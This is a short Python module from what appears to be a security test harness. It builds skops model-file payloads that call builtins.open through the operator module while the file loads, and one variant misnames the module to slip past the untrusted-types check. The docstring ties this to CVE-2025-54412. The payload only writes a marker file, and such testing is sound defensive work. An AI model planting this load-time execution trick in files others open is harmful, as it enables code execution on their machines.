"""A schema that calls a function of Python's operator module while it is loaded.

Up to skops 0.11 a schema could give another module than the one that was called
(CVE-2025-54412). The list of untrusted types then named what is harmless.
"""

from functools import partial

from persistbench.backends import Backend
from persistbench.trials.attack.payloads import MARKER, Shape
from persistbench.trials.attack.payloads._schema import hide, is_skops, node, several, text


def _craft(module: str, backend: Backend, path: str) -> None:
    opens = node("TypeNode", "builtins", "open")
    arguments = several(opens, text(MARKER), text("x"))
    hide(backend, path, inverse_func=node("OperatorFuncNode", module, "call", attrs=arguments))


SHAPES = (
    Shape("skops-operator", partial(_craft, "operator"), is_skops),
    Shape("skops-operator-lie", partial(_craft, "sklearn.preprocessing"), is_skops),
)
